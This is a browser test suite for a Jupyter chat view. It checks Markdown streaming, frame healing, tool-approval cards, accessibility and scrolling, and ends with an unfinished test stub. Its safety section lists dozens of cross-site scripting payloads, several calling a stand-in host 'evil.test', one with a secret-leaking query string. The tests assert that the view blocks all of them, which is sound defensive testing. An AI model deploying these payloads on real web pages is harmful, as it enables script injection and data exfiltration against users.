"""The view itself in a real browser, fed by hand: drawing, healing, safety, accessibility, speed."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from labs import BUILD, CHROMIUM, browser

from kit_jupyter.approvers import visible

STATIC = Path(__file__).parents[2] / "kit_jupyter" / "jupyter" / "static"
AXE = Path(__file__).parents[2] / "labextension" / "node_modules" / "axe-core" / "axe.min.js"

pytestmark = [
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian's chromium is not installed"),
    pytest.mark.skipif(not (STATIC / "render.js").exists(), reason="render.js is not built (npm run build:modules)"),
]

HTML = """<!doctype html><html lang="en"><head><title>kit</title><meta charset="utf-8"><style>%s
body{background:var(--jp-layout-color1,#fff)}</style></head>
<body %s><main><div id="at"></div></main><script>window.ran = 0</script></body></html>"""

DARK = """:root{--jp-ui-font-color1:rgba(255,255,255,.87);--jp-ui-font-color2:rgba(255,255,255,.7);
--jp-layout-color1:#212121;--jp-layout-color2:#424242;--jp-border-color2:#616161;--jp-border-color1:#757575;
--jp-brand-color1:#2196f3;--jp-error-color0:#ef9a9a;--jp-content-link-color:#90caf9;--jp-success-color0:#a5d6a7;
--jp-input-background:#424242}"""
HIGH = """:root{--jp-ui-font-color1:#fff;--jp-ui-font-color2:#fff;--jp-layout-color1:#000;--jp-layout-color2:#000;
--jp-border-color2:#fff;--jp-border-color1:#fff;--jp-brand-color1:#ff0;--jp-error-color0:#ff8080;
--jp-content-link-color:#ff0;--jp-success-color0:#80ff80;--jp-input-background:#000}"""


class View:
    """A page with one view, and the kernel's part played by the test."""

    def __init__(
        self, chromium: Any, *, view: dict[str, Any], css: str = "", body: str = "", render: bool = True
    ) -> None:
        self.context = chromium.new_context(viewport={"width": 900, "height": 700})
        self.page = self.context.new_page()
        self.outside: list[str] = []
        self.errors: list[str] = []
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.route("**/*", self._serve)
        self._html = HTML % (css, body)
        self.page.goto("http://kit.test/")
        self.page.evaluate(
            """async ([view, render]) => {
              window.__kit__ = render ? {loadRender: () => import('/render.js')} : {renderAbsent: true};
              const chat = await import('/chat.js');
              window.sent = []; window.fns = new Set();
              window.model = {get: () => view, on: (_, f) => fns.add(f), off: (_, f) => fns.delete(f),
                              send: m => sent.push(m)};
              window.end = chat.mount({model, el: document.getElementById('at')});
              window.chat = chat;
              window.say = f => fns.forEach(g => g(f));
              if (render) __kit__.render ??= await import('/render.js');
            }""",
            [view, render],
        )
        self.n = view.get("n", 0)

    def _serve(self, route: Any) -> None:
        url = route.request.url
        name = url.removeprefix("http://kit.test/")
        if name in ("chat.js", "render.js"):
            route.fulfill(body=(STATIC / name).read_text(), content_type="text/javascript")
        elif name == "":
            route.fulfill(body=self._html, content_type="text/html")
        elif url.startswith(("data:", "blob:")):
            route.continue_()
        else:
            if "favicon" not in url:
                self.outside.append(url)
            route.abort()

    def say(self, *messages: dict[str, Any]) -> None:
        self.n += 1
        self.page.evaluate("f => say(f)", {"n": self.n, "m": list(messages)})
        self.frame()

    def frame(self) -> None:
        self.page.evaluate("() => new Promise(ok => requestAnimationFrame(() => requestAnimationFrame(ok)))")

    def answer(self, text: str, *, done: bool = True) -> None:
        """Show one whole answer."""
        item = {"id": f"i{self.n}", "kind": "text"}
        key = f"k{self.n}"
        self.say({"kind": "start", "turn": turn(key)}, {"kind": "commit", "turn": key, "item": item, "sizes": {}})
        self.say({"kind": "delta", "d": [[item["id"], "text", 0, text]]})
        if done:
            units = len(text.encode("utf-16-le", "surrogatepass")) // 2
            self.say({"kind": "commit", "turn": key, "item": {**item, "done": True}, "sizes": {"text": units}})
            self.say({"kind": "end", "turn": key, "status": "done", "error": None, "facts": {}, "sizes": {}})
            self.frame()

    @property
    def text(self) -> str:
        return str(self.page.locator(".kit-view").inner_text())

    @property
    def sent(self) -> list[dict[str, Any]]:
        return list(self.page.evaluate("() => sent"))

    def close(self) -> None:
        self.context.close()


def turn(key: str = "t1", **more: Any) -> dict[str, Any]:
    facts = {"prompt": "ask", "mode": "prompt", "status": "running", "chips": [], "note": "", "error": None}
    return {"key": key, "facts": {}, **facts, **more}


def item(
    id: str, kind: str = "text", *, turn: str = "t1", sizes: dict[str, int] | None = None, **facts: Any
) -> dict[str, Any]:
    """A commit of one item."""
    return {"kind": "commit", "turn": turn, "item": {"id": id, "kind": kind, **facts}, "sizes": sizes or {}}


def grown(id: str, at: int, text: str, field: str = "text") -> dict[str, Any]:
    """A delta of one field."""
    return {"kind": "delta", "d": [[id, field, at, text]]}


def ended(key: str = "t1", status: str = "done", **sizes: Any) -> dict[str, Any]:
    """The end of a turn."""
    return {"kind": "end", "turn": key, "status": status, "error": None, "facts": {}, "sizes": sizes}


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    with browser() as it:
        yield it


@pytest.fixture(scope="module")
def shared(chromium: Any) -> Iterator[View]:
    it = View(chromium, view={"n": 0, "turns": [], "bar": {}})
    yield it
    it.close()


@pytest.fixture
def view(shared: View) -> Iterator[View]:
    """The one page of this module, empty again."""
    shared.page.evaluate("() => { sent.length = 0; window.ran = 0; scrollTo(0, 0); }")
    shared.outside.clear()
    shared.errors.clear()
    shared.n += 1
    shared.say({"kind": "state", "view": {"n": shared.n + 1, "turns": [], "bar": {}}})
    yield shared
    assert shared.errors == []


# ---------------------------------------------------------------- growing and healing


def test_text_grows_and_becomes_markdown(view: View) -> None:
    """Point 5: Markdown as it streams; closed paragraphs keep their nodes (U4)."""
    view.say({"kind": "start", "turn": turn()}, item("a"))
    view.say(grown("a", 0, "# Head\n\nfirst **bold**\n\n"))
    view.say(grown("a", 24, "sec"))
    view.page.evaluate("() => { window.kept = document.querySelector('.kit-md strong'); }")
    text = "ond `code` and $x^2$\n\n```python\nprint(1)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    at = 27
    for piece in text:
        view.page.evaluate("f => say(f)", {"n": view.n + 1, "m": [grown("a", at, piece)]})
        view.n += 1
        at += 1
    view.frame()
    view.say(item("a", done=True, sizes={"text": at}))

    assert view.page.evaluate("() => window.kept.isConnected")
    for selector in ("h1", "strong", "code", "math", "pre .hljs-built_in", "table td"):
        assert view.page.locator(f".kit-view {selector}").count() >= 1, selector
    assert not [m for m in view.sent if m.get("n") == -1], "asked for the whole though nothing was lost"


def test_a_lost_frame_heals(view: View) -> None:
    """Speed row 16: a gap in the numbers asks for the whole, and the whole is drawn."""
    view.say({"kind": "start", "turn": turn()}, item("a"))
    view.n += 1  # this one was dropped on the way
    view.say(grown("a", 5, "world"))

    assert view.sent[-1] == {"kind": "ask", "what": "sync", "n": -1}
    whole = turn(items=[{"id": "a", "kind": "text", "text": "hello world"}])
    view.n += 1
    state = {"kind": "state", "view": {"n": view.n, "turns": [whole], "bar": {}}}
    view.page.evaluate("f => say(f)", {"n": view.n, "m": [state]})
    view.frame()
    view.say(grown("a", 11, "!"))
    assert "hello world!" in view.text


def test_a_wrong_length_heals(view: View) -> None:
    """Speed row 16: the last frame carries a check."""
    view.say({"kind": "start", "turn": turn()}, item("a"))
    view.say(grown("a", 0, "short"))
    view.say(ended(a={"text": 9}))

    assert view.sent[-1] == {"kind": "ask", "what": "sync", "n": -1}


def test_offsets_count_as_browsers_do(view: View) -> None:
    """Design §8: offsets are UTF-16 units; emoji and combining text arrive whole."""
    from kit_jupyter.jupyter.protocol import utf16_units

    parts = ["a😀", "e\u0301 ", "עברית ", "👩‍👩‍👧 ", "z"]
    view.say({"kind": "start", "turn": turn()}, item("a"))
    at = 0
    for part in parts:
        view.say(grown("a", at, part))
        at += utf16_units(part)

    assert "".join(parts).strip() in view.text
    assert not [m for m in view.sent if m.get("n") == -1]


@pytest.mark.parametrize(
    "text",
    [
        "```python\nnever closed\n" + "x = 1\n" * 20,
        "x" * 1_000_000,
        "AVAW" * 250_000 + " and " + "AVAW" * 20_000,
        "> " * 5000 + "deep",
        "[" * 50_000,
        "*a " * 20_000,
        "- " * 3000 + "list",
        "| a |\n" * 3000,
        "```\n" + "line\n" * 10_000 + "```\n",
        "\u202e right to left \u202c e\u0301\u0301\u0301 \u0000 \u0007 \ufeff",
        "$" + "\\frac{1}{" * 500 + "$",
        "![x](data:image/png;base64," + "A" * 2_000_000 + ")",
        "![x](data:image/png;base64," + "A" * 60_000 + ")",
        "a\n\n" * 5000,
    ],
    ids=[
        "fence",
        "1MB line",
        "1MB kerned",
        "quotes",
        "brackets",
        "stars",
        "lists",
        "table",
        "10k lines",
        "rtl",
        "tex",
        "data",
        "small data",
        "blocks",
    ],
)
def test_hard_answers_are_shown(view: View, text: str) -> None:
    """Bad input: none of them freezes the page or loses the text."""
    view.answer(text)

    text_or_picture = "e => e.textContent.length > 0 || !!e.querySelector('img')"
    assert view.page.locator(".kit-text").first.evaluate(text_or_picture)


# ---------------------------------------------------------------- safety

XSS = [
    "<script>ran++</script>",
    "<img src=x onerror=ran++>",
    "<svg onload=ran++><animate onbegin=ran++ attributeName=x dur=1s></svg>",
    "[x](javascript:ran++)",
    "[x](JaVaScRiPt&#58;ran++)",
    "[x](data:text/html,<script>ran++</script>)",
    "<a href='javascript:ran++'>x</a>",
    "![x](https://evil.test/p.png)",
    "![x](http://evil.test/p.png?d=secret)",
    "![a][r]\n\n[r]: https://evil.test/ref.png",
    "<https://evil.test/auto>",
    "<iframe srcdoc='<script>parent.ran++</script>'></iframe>",
    "<iframe src=https://evil.test></iframe>",
    "<link rel=stylesheet href=https://evil.test/a.css>",
    "<style>@import 'https://evil.test/b.css'; body{background:url(https://evil.test/c)}</style>",
    "<div style='background:url(https://evil.test/d)'>x</div>",
    "<video src=https://evil.test/v autoplay></video><audio src=https://evil.test/a></audio>",
    "<form action=https://evil.test><input name=x autofocus onfocus=ran++></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran++>",
    "<details open ontoggle=ran++><summary>x</summary></details>",
    "<base href=https://evil.test>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<object data=https://evil.test></object><embed src=https://evil.test>",
    "$\\href{javascript:ran++}{x}$ $\\includegraphics{https://evil.test/i.png}$ $\\htmlData{onclick=ran++}{x}$",
    "$$\\url{javascript:ran++}$$",
    "```html\n<script>ran++</script>\n```",
    '```"><img src=x onerror=ran++>\ncode\n```',
    "`<img src=x onerror=ran++>`",
    "| <img src=x onerror=ran++> |\n|---|\n| <script>ran++</script> |",
    "<p><noscript><p title='</noscript><img src=x onerror=ran++>'>",
    "<!--><img src=x onerror=ran++>-->",
    "<?xml x?><x onclick=ran++>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "<img srcset='https://evil.test/s 1x' src=''>",
    "[![x](https://evil.test/n.png)](https://evil.test)",
    "<input type=image src=https://evil.test/im>",
    "<body background=https://evil.test/bg>",
    "<img id=__kit__ name=model><a id=fns>",
]


BAD = """() => [...document.querySelectorAll('.kit-view *')].filter(e =>
  ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'LINK', 'META', 'BASE', 'FORM', 'STYLE'].includes(e.tagName) ||
  [...e.attributes].some(a => /^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value) ||
                              (a.name === 'src' && !a.value.startsWith('data:image/')))
).map(e => e.outerHTML.slice(0, 120))"""
LINKS = "() => [...document.querySelectorAll('.kit-view a[href]')].map(a => [a.protocol, a.rel, a.target])"


@pytest.mark.parametrize("text", XSS)
def test_hostile_markdown_does_nothing(view: View, text: str) -> None:
    """Point 5 and design §8: no script runs, no request goes out, in the answer and everywhere else."""
    view.answer(f"before\n\n{text}\n\nafter")
    chip = {"mark": text, "size": text, "preview": text}
    tool = {
        "id": "tool", "kind": "tool", "name": text, "status": "done", "result": text, "call_id": "c",
        "question": {"text": text, "suggestion": text, "arguments": text}, "diff": text,
        "media": [{"type": "text/html", "name": text, "data": "PGI+"},
                  {"type": "image/svg+xml", "name": "s", "data": "PHN2ZyBvbmxvYWQ9InJhbisrIi8+"}],
    }  # fmt: skip
    view.say(
        {"kind": "start", "turn": turn("h", prompt=text, note=text, chips=[chip], error={"message": text})},
        {"kind": "commit", "turn": "h", "item": tool, "sizes": {}},
        item("s", "said", turn="h", text=text, mode="steer"),
        item("n", "notice", turn="h", text=text, level="error"),
        {"kind": "state", "bar": {"queue": {"steering": [text]}, "tasks": [{"text": text}], "model": text}},
    )
    view.page.wait_for_timeout(30)

    assert view.page.evaluate("() => window.ran") == 0
    assert view.outside == []
    assert view.page.evaluate(BAD) == []
    for protocol, rel, target in view.page.evaluate(LINKS):
        assert protocol in ("http:", "https:", "mailto:")
        assert "noopener" in rel
        assert target == "_blank"


def test_a_remote_picture_waits_for_a_click(view: View) -> None:
    """Design §8: no remote loads without a click; the click says where it goes."""
    view.answer("![plot](https://pictures.test/p.png)")
    assert view.outside == []

    view.page.get_by_role("button", name="Load “plot” from pictures.test").click()
    view.page.wait_for_timeout(100)

    assert view.outside == ["https://pictures.test/p.png"]


# ---------------------------------------------------------------- cards and controls


def test_what_markdown_says_of_place_is_kept(view: View) -> None:
    """Columns stand where their marks say, lists begin where they begin, displayed math stands by itself."""
    table = "| a | b | c |\n|:--|--:|:-:|\n| x | 1 | y |\n\n"
    view.answer(table + "text\n\n7. seven\n8. eight\n\n$$\\int_0^1 x\\,dx = \\frac12$$\n\nand $a$.\n")

    view.page.wait_for_selector("math")
    cells = "() => [...document.querySelectorAll('td')].map(e => getComputedStyle(e).textAlign)"
    assert view.page.evaluate(cells) == ["start", "end", "center"]
    assert view.page.locator("ol").get_attribute("start") == "7"
    shown = "() => [...document.querySelectorAll('math')].map(e => getComputedStyle(e).display)"
    assert view.page.evaluate(shown) == ["block math", "math"]


def test_long_results_are_bounded_and_nothing_is_lost(view: View) -> None:
    """U9: 10,000 lines show 20 and say how many more; the rest comes on request."""
    lines = "\n".join(f"line {i}" for i in range(10_000))
    item = {"id": "x", "kind": "tool", "call_id": "c", "name": "t", "status": "done", "result": lines, "done": True}
    view.say({"kind": "start", "turn": turn()}, {"kind": "commit", "turn": "t1", "item": item, "sizes": {}})
    view.page.locator(".kit-tool summary").first.click()

    button = view.page.get_by_role("button", name="show 9980 more lines")
    assert button.inner_text() == "9,980 more lines"
    assert "line 20" not in view.page.locator(".kit-res").inner_text()
    button.click()
    assert "line 500" in view.page.locator(".kit-res").inner_text()


def test_thinking_is_open_while_it_comes_and_folded_after(view: View) -> None:
    """U9."""
    view.say({"kind": "start", "turn": turn()}, item("a", "thinking"))
    view.say(grown("a", 0, "let me see"))
    assert view.page.locator("details[open]").count() == 1

    view.say(item("a", "thinking", done=True, sizes={"text": 10}))

    assert view.page.locator("details[open]").count() == 0
    assert "let me see" in view.page.locator("details").inner_html()


def _ask(view: View, text: str = "Run drop?") -> None:
    item = {
        "id": "q", "kind": "tool", "call_id": "call1", "name": "drop", "status": "asking", "arguments": '{"a":1}',
        "question": {"text": text, "suggestion": "drop *", "arguments": '{"a": 1}'},
    }  # fmt: skip
    view.say({"kind": "start", "turn": turn()}, {"kind": "commit", "turn": "t1", "item": item, "sizes": {}})


@pytest.mark.parametrize(
    ("keys", "want"),
    [
        (["Approve"], {"allow": True, "scope": "once", "arguments": None}),
        (["Always: drop *"], {"allow": True, "scope": "always", "arguments": None}),
        (["Deny"], {"allow": False}),
    ],
)
def test_approval_by_keyboard_alone(view: View, keys: list[str], want: dict[str, Any]) -> None:
    """U115, U60: the bar is reached with Tab, and answered with Enter."""
    _ask(view)
    for _ in range(30):
        view.page.keyboard.press("Tab")
        if view.page.evaluate("() => document.activeElement.textContent") == keys[0]:
            break
    assert view.page.evaluate("() => getComputedStyle(document.activeElement).outlineStyle") != "none"
    view.page.keyboard.press("Enter")

    said = [m for m in view.sent if m["kind"] == "approve"]
    assert len(said) == 1
    assert said[0]["call"] == "call1"
    assert {key: said[0][key] for key in want} == want


def test_a_long_question_keeps_its_answers_in_sight(view: View) -> None:
    """Bad input: a call with long arguments: the question is whole, and scrolls, by keyboard too."""
    text = "Run drop with " + "z" * 20_000 + "?"
    _ask(view, text)
    question = view.page.locator(".kit-q")

    assert question.inner_text() == text
    assert question.bounding_box()["height"] < 200
    assert question.get_attribute("tabindex") == "0"
    assert view.page.get_by_role("button", name="Approve", exact=True).is_visible()


def test_deny_with_a_reason_and_edit_arguments(view: View) -> None:
    """U60: the reason goes along; edited arguments must be JSON."""
    _ask(view)
    view.page.get_by_role("button", name="Edit arguments").click()
    box = view.page.get_by_label("Edited arguments, JSON")
    box.fill("{nonsense")
    view.page.get_by_role("button", name="Approve", exact=True).click()
    assert not [m for m in view.sent if m["kind"] == "approve"]
    assert "not JSON" in view.text
    box.fill('{"a": 2}')
    view.page.get_by_role("button", name="Approve", exact=True).click()
    assert [m["arguments"] for m in view.sent if m["kind"] == "approve"] == [{"a": 2}]


CODE = """total = 0
for i, row in df.iterrows():
    if row.a > 3:
        total += row.a
    else:
        total -= 1

def half(x):
    return x / 2
half(total)"""


def _ask_code(
    view: View, code: str = CODE, *, name: str = "python", field: str = "code", text: str | None = None, **more: Any
) -> None:
    arguments = {field: code, **more}
    asked = f"Run this Python in your session?\n\n{code}\n(python changes something)" if text is None else text
    facts = {
        "call_id": "call1", "name": name, "status": "asking", "arguments": json.dumps(arguments),
        "question": {"text": visible(asked), "suggestion": "", "arguments": json.dumps(arguments, indent=2)},
    }  # fmt: skip
    view.say({"kind": "start", "turn": turn()}, item("q", "tool", **facts))


def test_code_to_approve_is_drawn_line_by_line(view: View) -> None:
    """U60: what a person approves is read as code, in full, once; the question names it."""
    _ask_code(view, timeout=5)
    code = view.page.get_by_label("argument code", exact=True)

    assert code.evaluate("e => e.tagName") == "PRE"
    assert code.evaluate("e => e.textContent") == CODE
    assert code.evaluate("e => getComputedStyle(e).whiteSpace").startswith("pre")
    assert code.bounding_box()["height"] > 10 * 14  # as many lines on the page
    assert code.locator("[class^=hljs-]").count() > 5
    assert view.page.get_by_label("other arguments").inner_text() == '{"timeout":5}'
    question = view.page.locator(".kit-q")
    assert question.inner_text().split("\n") == [
        "Run this Python in your session?", "(code: as shown above)", "(python changes something)",
    ]  # fmt: skip
    assert "\\n" not in view.text
    assert question.evaluate("e => getComputedStyle(e.lastChild).fontWeight") == "400"

    view.say({"kind": "approval", "turn": "t1", "call": "q", "question": None}, item("q", "tool", status="done"))
    assert code.evaluate("e => e.textContent") == CODE  # settled, too


def test_code_to_approve_of_a_saved_turn_is_drawn_line_by_line(view: View) -> None:
    """A saved card is drawn by the same code: lines are lines there, without a renderer's help."""
    saved = {"kind": "tool", "name": "shell", "status": "done", "arguments": json.dumps({"command": "cd a\nls"})}
    shown = view.page.evaluate(
        """async one => {
          const el = document.body.appendChild(document.createElement('div'));
          const it = chat.mountSaved({bundle: {turn: {status: 'done', items: [one]}}, el});
          await new Promise(ok => requestAnimationFrame(() => requestAnimationFrame(ok)));
          const text = el.querySelector('[aria-label="argument command"]').textContent;
          it.close(); el.remove();
          return text;
        }""",
        saved,
    )

    assert shown == "cd a\nls"


@pytest.mark.parametrize(
    "code",
    [
        "<img src=x onerror='ran++'>\n</code></pre><script>ran++</script>",
        "a\n```\n<b onclick=ran++>x</b>\n````\n~~~\n[x](javascript:ran++)",
        "x = '&lt;b&gt; &amp; $y$'\n\tif x: pass   \n\n",
    ],
)
def test_hostile_code_to_approve_stays_text(view: View, code: str) -> None:
    """S19: code is text, whatever is in it, to the last space."""
    _ask_code(view, code)
    block = view.page.get_by_label("argument code", exact=True)
    view.page.wait_for_timeout(30)

    assert block.evaluate("e => e.textContent") == code
    assert block.evaluate("e => [...e.querySelectorAll('*')].every(x => x.tagName === 'SPAN')")
    assert view.page.evaluate("() => ran") == 0


def test_nothing_hides_in_code_to_approve(view: View) -> None:
    """S19: escapes, direction marks and spaces that are none are written out where the code is judged and edited."""
    code = "ls \u202e\u2066# \x1b[2K\rx\x00\n\u200by = '\U000e0041\ue000\xa0'"
    _ask_code(view, code, mark="\u202e", fine="é 表 😀")

    assert view.page.get_by_label("argument code", exact=True).evaluate("e => e.textContent") == visible(code)
    assert view.page.get_by_label("other arguments").inner_text() == '{"mark":"\\u202e","fine":"é 表 😀"}'
    assert "(code: as shown above)" in view.page.locator(".kit-q").inner_text()
    view.page.get_by_role("button", name="Edit arguments").click()
    box = view.page.get_by_label("Edited arguments, JSON")
    assert "\\u202e" in box.input_value()
    assert visible(box.input_value()) == box.input_value()
    view.page.get_by_role("button", name="Approve", exact=True).click()

    assert [m["arguments"] for m in view.sent if m["kind"] == "approve"] == [
        {"code": code, "mark": "\u202e", "fine": "é 表 😀"}
    ]


def test_a_question_keeps_what_is_not_shown_above(view: View) -> None:
    """What a tool adds to its question, or what differs by a letter, stands in it whole, with its lines."""
    text = f"Run this?\n\n{CODE}!\n\nprint(1)\n  print(2)"
    _ask_code(view, text=text)

    shown = view.page.locator(".kit-q")
    assert shown.inner_text().split() == text.split()
    assert "print(1)\n  print(2)" in shown.inner_text()
    assert "as shown above" not in shown.inner_text()


def test_a_function_s_question_names_long_arguments(view: View) -> None:
    """The JSON of a function's arguments is not said again below their blocks; it is where it differs."""
    arguments = {"script": "a\nb é\n" * 400, "n": 1.0, "deep": {"x": [None, True]}}
    shown = json.dumps(arguments, ensure_ascii=False)[:2000] + " …"
    _ask_code(view, arguments["script"], name="go", field="script", text=f"Run go with {shown}?\n(why)", n=1.0,
              deep=arguments["deep"])  # fmt: skip
    assert view.page.locator(".kit-q").inner_text().split("\n") == ["Run go with the arguments above?", "(why)"]

    other = "Run go with " + shown.replace("b", "c", 1) + "?"
    view.say({"kind": "approval", "turn": "t1", "call": "q", "question": {
        "text": other, "suggestion": "", "arguments": json.dumps(arguments)}})  # fmt: skip
    assert view.page.locator(".kit-q").inner_text() == other


def test_the_arguments_that_would_run_are_shown(view: View) -> None:
    """U60: where a hook or the tool changed what the model wrote, the person sees what would run."""
    _ask_code(view)
    view.say(item("q", "tool", question={"text": "Sure?", "suggestion": "", "arguments": '{"code": "other()"}'}))

    assert view.page.get_by_label("argument code", exact=True).inner_text() == "other()"


def test_code_is_edited_with_its_lines(view: View) -> None:
    """U60: a text is edited in its own field, line by line; what goes back is the same structure as ever."""
    _ask_code(view, timeout=5)
    view.page.get_by_role("button", name="Edit arguments").click()
    field = view.page.get_by_label("Edited argument code")
    assert field.input_value() == CODE
    assert "mono" in field.evaluate("e => getComputedStyle(e).fontFamily")
    assert field.evaluate("e => e === document.activeElement")
    assert json.loads(view.page.get_by_label("Other edited arguments, JSON").input_value()) == {"timeout": 5}
    view.page.keyboard.press("Control+End")
    view.page.keyboard.press("Enter")
    view.page.keyboard.type("print(total)  # j, k and dd are letters here")
    others = view.page.get_by_label("Other edited arguments, JSON")

    for wrong, word in (("[1]", "names and values"), ('{"code": "x"}', "given twice"), ("{", "not JSON")):
        others.fill(wrong)
        view.page.get_by_role("button", name="Approve", exact=True).click()
        assert word in view.page.get_by_role("alert").last.inner_text()
        assert not [m for m in view.sent if m["kind"] == "approve"]
    others.fill('{"timeout": 9}')
    view.page.get_by_role("button", name="Approve", exact=True).click()

    assert [m["arguments"] for m in view.sent if m["kind"] == "approve"] == [
        {"timeout": 9, "code": CODE + "\nprint(total)  # j, k and dd are letters here"}
    ]


def test_what_was_edited_outlives_a_card_that_is_drawn_anew(view: View) -> None:
    """U60: a lost frame brings the whole again, in the middle of an edit; what the person wrote is still there."""
    _ask_code(view)
    view.page.get_by_role("button", name="Edit arguments").click()
    view.page.get_by_label("Edited argument code").fill("mine()")
    question = {"text": visible(f"Run this Python in your session?\n\n{CODE}\n(python changes something)"),
                "suggestion": "", "arguments": json.dumps({"code": CODE}, indent=2)}  # fmt: skip
    again = {"id": "q", "kind": "tool", "call_id": "call1", "name": "python", "status": "asking",
             "arguments": json.dumps({"code": CODE}), "question": question}  # fmt: skip
    view.n += 1
    state = {"kind": "state", "view": {"n": view.n, "turns": [turn(items=[again])], "bar": {}}}
    view.page.evaluate("f => say(f)", {"n": view.n, "m": [state]})
    view.frame()

    field = view.page.get_by_label("Edited argument code")
    assert field.is_visible()
    assert field.input_value() == "mine()"
    view.page.get_by_role("button", name="Approve", exact=True).click()
    assert [m["arguments"] for m in view.sent if m["kind"] == "approve"] == [{"code": "mine()"}]


@pytest.mark.parametrize("theme", ["light", "dark", "high"])
def test_axe_finds_nothing_in_a_card_with_code(chromium: Any, theme: str) -> None:
    """U114, U116: the blocks, the question and the fields have names and contrast."""
    if not AXE.exists():
        pytest.skip("axe-core is not installed (npm ci in labextension)")
    css = {"light": "", "dark": DARK, "high": HIGH}[theme]
    body = "" if theme == "light" else 'data-jp-theme-light="false"'
    view = View(chromium, view={"n": 0, "turns": [], "bar": {}}, css=css, body=body)
    _ask_code(view, timeout=5)
    view.page.get_by_role("button", name="Edit arguments").click()
    view.page.evaluate(AXE.read_text())
    found = view.page.evaluate("async () => (await axe.run(document, {resultTypes: ['violations']})).violations")

    grave = [v for v in found if v["impact"] in ("serious", "critical")]
    assert [(v["id"], [node["html"][:120] for node in v["nodes"]]) for v in grave] == []
    BUILD.mkdir(parents=True, exist_ok=True)
    view.page.screenshot(path=str(BUILD / f"approval-{theme}.png"), full_page=True)
    view.close()


def test_a_click_does_not_move_the_page(view: View) -> None:
    """U12: approving changes `scrollTop` by nothing."""
    view.answer("para\n\n" * 60)
    _ask(view)
    view.page.evaluate("() => document.querySelector('.kit-approval').scrollIntoView()")
    before = view.page.evaluate("() => scrollY")

    view.page.get_by_role("button", name="Approve", exact=True).click()
    view.say({"kind": "approval", "turn": "t1", "call": "q", "question": None})
    view.say(item("q", "tool", status="running", question=None))

    assert abs(view.page.evaluate("() => scrollY") - before) <= 1


def test_steer_and_stop(view: View) -> None:
    """U16, U26: while a turn runs there is a box to steer and a button to stop, and only then."""
    view.say({"kind": "start", "turn": turn()})
    view.page.get_by_label("Steer the running turn").fill("be brief")
    view.page.keyboard.press("Enter")
    view.page.get_by_role("button", name="Stop").click()
    view.say(ended(status="stopped"))

    kinds = [(m["kind"], m.get("text")) for m in view.sent if m["kind"] != "ask"]
    assert kinds == [("steer", "be brief"), ("abort", None)]
    assert not view.page.get_by_role("button", name="Stop").is_visible()
    assert "stopped" in view.text


@pytest.mark.parametrize("status", ["done", "error", "stopped"])
def test_a_busy_mark_is_there_before_the_first_word_and_gone_at_the_end(view: View, status: str) -> None:
    """S59, S60: it stands while the turn runs, and goes with its end, a failed or an interrupted one too."""
    mark = view.page.locator(".kit-wait")
    view.say({"kind": "start", "turn": turn()})
    assert mark.is_visible()
    assert view.page.get_by_text("kit is answering").count() == 1  # said to those who do not see it
    view.say(item("a"), grown("a", 0, "first"))
    assert mark.is_visible()

    view.say(ended(status=status) | {"error": {"message": "it failed"} if status == "error" else None})

    assert mark.count() == 1
    assert not mark.is_visible()
    view.say({"kind": "start", "turn": turn("t2")})
    assert [mark.nth(i).is_visible() for i in range(mark.count())] == [False, True]


def test_every_printable_key_stays_in_the_box(chromium: Any) -> None:
    """U96: no key reaches the notebook; the text is exact."""
    view = View(chromium, view={"n": 0, "turns": [], "bar": {"model": "m/x"}, "panel": True})
    view.page.evaluate("() => { window.leaked = []; document.addEventListener('keydown', e => leaked.push(e.key)); }")
    box = view.page.get_by_label("Prompt")
    box.focus()
    ascii_set = "".join(chr(c) for c in range(32, 127))
    view.page.keyboard.type(ascii_set)
    view.page.keyboard.press("Shift+Enter")
    view.page.keyboard.type("two")

    assert box.input_value() == ascii_set + "\ntwo"
    assert view.page.evaluate("() => leaked") == []
    assert view.page.locator("[data-lm-suppress-shortcuts]").count() == 1
    view.page.keyboard.press("Enter")
    assert [m["text"] for m in view.sent if m["kind"] == "submit"] == [ascii_set + "\ntwo"]
    view.close()


def test_marks_complete_and_show_what_is_sent(chromium: Any) -> None:
    """U52: `@` lists variables; a chip's preview is what will be sent."""
    view = View(chromium, view={"n": 0, "turns": [], "bar": {"model": "m/x"}, "panel": True})
    box = view.page.get_by_label("Prompt")
    box.focus()
    view.page.keyboard.type("look at @d")
    view.say({"kind": "state", "completions": {"text": "d", "names": ["df", "data"]}})
    view.page.keyboard.press("ArrowDown")
    view.page.keyboard.press("ArrowUp")
    view.page.keyboard.press("Enter")
    assert box.input_value() == "look at @df "
    view.page.wait_for_function("() => sent.some(m => m.what === 'chip' && m.mark === 'df')")
    chip = {"mark": "df", "kind": "DataFrame", "size": "12 characters", "preview": "a  b\n1  2"}
    view.say({"kind": "state", "chip": chip})
    view.page.locator(".kit-foot .kit-chip summary").click()

    assert "a  b\n1  2" in view.page.locator(".kit-foot .kit-chip").inner_text()
    view.close()


def test_the_panel_follows_unless_the_reader_scrolled_up(chromium: Any) -> None:
    """U7: at the bottom it follows; scrolled up it stays, and offers to jump."""
    view = View(chromium, view={"n": 0, "turns": [], "bar": {}, "panel": True})
    view.say({"kind": "start", "turn": turn()}, item("a"))
    block, at = "paragraph\n\n" * 30, 0

    def grow() -> None:
        nonlocal at
        view.say(grown("a", at, block))
        at += len(block)
        view.page.wait_for_timeout(60)

    log = "const l = document.querySelector('.kit-log')"
    rest = f"() => {{ {log}; return l.scrollHeight - l.scrollTop - l.clientHeight; }}"
    for _ in range(3):
        grow()
    assert view.page.evaluate(rest) < 5
    view.page.locator(".kit-log").hover()
    view.page.mouse.wheel(0, -400)
    view.page.wait_for_timeout(150)
    before = view.page.evaluate("() => document.querySelector('.kit-log').scrollTop")
    for _ in range(3):
        grow()

    assert abs(view.page.evaluate("() => document.querySelector('.kit-log').scrollTop") - before) < 3
    view.page.get_by_role("button", name="Jump to latest").click()
    view.page.wait_for_timeout(60)
    assert view.page.evaluate(rest) < 5
    view.close()


def test_a_saved_turn_needs_no_kernel(view: View) -> None:
